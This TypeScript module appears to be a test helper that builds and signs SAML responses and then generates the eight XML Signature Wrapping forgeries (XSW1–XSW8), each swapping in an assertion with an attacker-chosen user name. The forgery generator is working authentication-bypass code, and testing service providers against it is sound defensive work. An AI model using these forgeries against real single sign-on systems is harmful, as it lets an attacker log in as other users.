import { randomBytes } from 'node:crypto'
import { SignedXml } from 'xml-crypto'
import type { SigningKey } from './signing-key.ts'

const sha256 = 'http://www.w3.org/2001/04/xmlenc#sha256'
const rsaSha256 = 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256'
const exclusive = 'http://www.w3.org/2001/10/xml-exc-c14n#'
const enveloped = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature'
const minuteMs = 60_000

/** All that a response says. Text and attribute values go in as they are: XML is for the caller to escape or not. */
export interface SamlWords {
  readonly now: number
  readonly issuer: string
  readonly acsUrl: string
  readonly audience: string
  readonly inResponseTo: string
  readonly responseId: string
  readonly assertionId: string
  readonly nameId: string
  readonly nameIdFormat: string
  readonly authnContext: string
  readonly attributes: Readonly<Record<string, readonly string[]>>
  readonly status: string
}

/** A response that a service provider with these addresses should accept. */
export function samlWords(words: Partial<SamlWords> & Pick<SamlWords, 'now' | 'acsUrl'>): SamlWords {
  return {
    issuer: 'https://idp.example/metadata',
    audience: 'https://sp.example/metadata',
    inResponseTo: '_request',
    responseId: `_${randomBytes(16).toString('hex')}`,
    assertionId: `_${randomBytes(16).toString('hex')}`,
    nameId: 'dwho',
    nameIdFormat: 'urn:oasis:names:tc:SAML:2.0:nameid-format:persistent',
    authnContext: 'urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport',
    attributes: { mail: ['dwho@badwolf.org'], cn: ['Doctor Who'], groups: ['timelords', 'users'] },
    status: 'urn:oasis:names:tc:SAML:2.0:status:Success',
    ...words,
  }
}

/** The response as XML, unsigned. */
export function samlResponse(words: SamlWords): string {
  const at = (ms: number) => new Date(words.now + ms).toISOString()
  const attributes = Object.entries(words.attributes).map(
    ([name, values]) =>
      `<saml:Attribute Name="${name}">${values.map((value) => `<saml:AttributeValue>${value}</saml:AttributeValue>`).join('')}</saml:Attribute>`,
  )
  return [
    `<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"`,
    ` ID="${words.responseId}" Version="2.0" IssueInstant="${at(0)}" Destination="${words.acsUrl}" InResponseTo="${words.inResponseTo}">`,
    `<saml:Issuer>${words.issuer}</saml:Issuer>`,
    `<samlp:Status><samlp:StatusCode Value="${words.status}"/></samlp:Status>`,
    `<saml:Assertion ID="${words.assertionId}" Version="2.0" IssueInstant="${at(0)}">`,
    `<saml:Issuer>${words.issuer}</saml:Issuer>`,
    `<saml:Subject><saml:NameID Format="${words.nameIdFormat}">${words.nameId}</saml:NameID>`,
    `<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">`,
    `<saml:SubjectConfirmationData InResponseTo="${words.inResponseTo}" Recipient="${words.acsUrl}" NotOnOrAfter="${at(5 * minuteMs)}"/>`,
    `</saml:SubjectConfirmation></saml:Subject>`,
    `<saml:Conditions NotBefore="${at(0)}" NotOnOrAfter="${at(5 * minuteMs)}">`,
    `<saml:AudienceRestriction><saml:Audience>${words.audience}</saml:Audience></saml:AudienceRestriction></saml:Conditions>`,
    `<saml:AuthnStatement AuthnInstant="${at(0)}" SessionIndex="${words.assertionId}"><saml:AuthnContext>`,
    `<saml:AuthnContextClassRef>${words.authnContext}</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement>`,
    `<saml:AttributeStatement>${attributes.join('')}</saml:AttributeStatement>`,
    `</saml:Assertion></samlp:Response>`,
  ].join('')
}

export interface SigningOptions {
  /** Default both. */
  readonly elements?: readonly ('Assertion' | 'Response')[]
  readonly signatureAlgorithm?: string
  readonly digestAlgorithm?: string
  readonly canonicalization?: string
}

/** Signs as an identity provider does: the assertion first, then the response around it. */
export function signSaml(xml: string, key: SigningKey, options: SigningOptions = {}): string {
  return (options.elements ?? ['Assertion', 'Response']).reduce((signed, element) => {
    const canonicalizationAlgorithm = options.canonicalization ?? exclusive
    const signature = new SignedXml({
      privateKey: key.privateKey,
      publicCert: key.certificate,
      signatureAlgorithm: options.signatureAlgorithm ?? rsaSha256,
      canonicalizationAlgorithm,
      getKeyInfoContent: SignedXml.getKeyInfoContent,
    })
    const xpath = `//*[local-name(.)='${element}']`
    signature.addReference({
      xpath,
      transforms: [enveloped, canonicalizationAlgorithm],
      digestAlgorithm: options.digestAlgorithm ?? sha256,
    })
    signature.computeSignature(signed, {
      location: { reference: `${xpath}/*[local-name(.)='Issuer']`, action: 'after' },
      prefix: 'ds',
    })
    return signature.getSignedXml()
  }, xml)
}

/** As a form's field. */
export const base64 = (xml: string): string => Buffer.from(xml, 'utf8').toString('base64')

const signaturePattern = /<(\w+:)?Signature[\s>][\s\S]*?<\/\1?Signature>/

/** The parts of a signed response, to build forgeries from. */
export function samlParts(signed: string) {
  const assertion = /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(signed)?.[0] ?? ''
  const [responseSignature = '', assertionSignature = ''] = [signed.replace(assertion, ''), assertion].map(
    (part) => signaturePattern.exec(part)?.[0] ?? '',
  )
  return { assertion, assertionSignature, responseSignature }
}

/** The eight signature wrappings of SAML Raider: the signed original moves aside for an evil copy. */
export function wrappings(signed: string, evilNameId: string): Record<string, string> {
  const { assertion, assertionSignature, responseSignature } = samlParts(signed)
  const evil = (xml: string) =>
    xml
      .replace(/(<saml:NameID[^>]*>)[^<]*/, (_, tag: string) => tag + evilNameId)
      .replace(/(<saml:Assertion[^>]*? ID=")/, '$1_evil')
  const bare = (xml: string, signature: string) => xml.replace(signature, '')
  const evilAssertion = evil(bare(assertion, assertionSignature))
  const original = bare(assertion, assertionSignature)
  const evilResponse = evil(signed).replace(/(<samlp:Response[^>]*? ID=")/, '$1_evil')
  const unsignedResponse = bare(signed, responseSignature).replace(/^<\?xml[^>]*>/, '')
  const within = (signature: string, inner: string) =>
    signature.replace(/<\/(\w+:)?Signature>$/, (end) => inner + end)
  const swap = (inner: string) => signed.replace(assertion, () => inner)
  const signedEvil = evilAssertion.replace('</saml:Issuer>', () => `</saml:Issuer>${assertionSignature}`)
  const nested = (xml: string, inner: string) =>
    xml.replace('</saml:Assertion>', () => `${inner}</saml:Assertion>`)
  const object = `<Object xmlns="http://www.w3.org/2000/09/xmldsig#">${original}</Object>`
  return {
    XSW1: evilResponse.replace(responseSignature, () => within(responseSignature, unsignedResponse)),
    XSW2: evilResponse.replace(responseSignature, () => unsignedResponse + responseSignature),
    XSW3: swap(evilAssertion + assertion),
    XSW4: swap(nested(evilAssertion, assertion)),
    XSW5: swap(signedEvil + original),
    XSW6: swap(signedEvil.replace(assertionSignature, () => within(assertionSignature, original))),
    XSW7: swap(`<samlp:Extensions>${evilAssertion}</samlp:Extensions>${assertion}`),
    XSW8: swap(signedEvil.replace(assertionSignature, () => within(assertionSignature, object))),
  }
}
